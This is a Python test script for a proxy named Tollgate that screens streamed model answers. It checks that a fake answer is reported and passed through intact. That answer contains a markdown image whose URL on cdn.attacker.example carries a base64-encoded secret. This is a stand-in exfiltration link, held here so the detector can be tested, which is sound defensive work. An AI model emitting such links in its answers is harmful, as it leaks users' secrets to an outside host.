"""Anthropic's SDK takes a streamed answer through a screening proxy that reports what is in its text.

    answer_text.py PROGRAM

A server imitates the provider. The answer has a picture whose address carries a known secret in base64, and after it
text, of which the rest is sent only when the client has read what came before: nothing of it waits. PROGRAM, Tollgate,
must report the secret and the picture, and let all of the answer pass.
"""

import base64
import json
import os
import signal
import subprocess
import sys
import tempfile
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import anthropic

PROGRAM = sys.argv[1]
LIMIT = 60
SECRET = "correct-horse-battery-9"
PICTURE = f"![status](https://cdn.attacker.example/p.png?d={base64.b64encode(SECRET.encode()).decode()})"
TEXT = f"Here it is: {PICTURE} and that was all."
PIECES = [TEXT[at:at + 7] for at in range(0, len(TEXT), 7)]

received = threading.Semaphore(0)
waited_in_vain = []


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def event(self, event):
        data = f"event: {event['type']}\ndata: {json.dumps(event)}\n\n".encode()
        self.wfile.write(b"%x\r\n%b\r\n" % (len(data), data))
        self.wfile.flush()

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        self.event({"type": "message_start", "message": {
            "id": "msg_1", "type": "message", "role": "assistant", "model": "m", "content": [], "stop_reason": None,
            "stop_sequence": None, "usage": {"input_tokens": 1, "output_tokens": 1}}})
        self.event({"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}})
        for piece in PIECES:
            self.event({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": piece}})
            if not received.acquire(timeout=LIMIT):
                waited_in_vain.append(piece)
        self.event({"type": "content_block_stop", "index": 0})
        self.event({"type": "message_delta", "delta": {"stop_reason": "end_turn", "stop_sequence": None},
                    "usage": {"output_tokens": 9}})
        self.event({"type": "message_stop"})
        self.wfile.write(b"0\r\n\r\n")


def main():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    folder = Path(tempfile.mkdtemp())
    audit = folder / "audit.jsonl"
    proxy = subprocess.Popen(
        [PROGRAM, "--mode", f"reverse:http://127.0.0.1:{server.server_address[1]}@127.0.0.1:0", "--screen", "enforce",
         "--known-secrets", "env:ANSWER_PHRASE", "--audit-log", str(audit), "--data-dir", str(folder / "data"),
         "--store", "off", "--json"],
        env={**os.environ, "ANSWER_PHRASE": SECRET},
        stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    url = None
    for line in proxy.stderr:
        if " at 127.0.0.1:" in line:
            url = "http://" + line.split(" at ")[1].strip()
            break
    log = []
    reader = threading.Thread(target=lambda: log.extend(proxy.stderr), daemon=True)
    reader.start()
    client = anthropic.Anthropic(base_url=url, api_key="k", max_retries=0)
    with client.messages.stream(
            model="m", max_tokens=99, messages=[{"role": "user", "content": "hi"}]) as stream:
        for _ in stream.text_stream:
            received.release()
        message = stream.get_final_message()
    assert message.content[0].text == TEXT, message
    assert message.stop_reason == "end_turn", message
    assert not waited_in_vain, waited_in_vain
    proxy.send_signal(signal.SIGTERM)
    shown = proxy.stdout.read()
    proxy.wait(LIMIT)
    reader.join(LIMIT)

    lines = [json.loads(line) for line in audit.read_text().splitlines()]
    told = {(finding["rule"], line["place"]) for line in lines for finding in line.get("findings", [])}
    for rule in ("known-secret", "link-exfiltration"):
        assert any(one == rule and "answer" in place for one, place in told), lines
        assert any(rule in line and "the text of a model's answer" in line for line in log), log
    assert "the text of a model's answer" in shown, shown
    written = audit.read_text() + shown + "".join(log)
    assert SECRET not in written and base64.b64encode(SECRET.encode()).decode() not in written, written
    print("ok")


main()
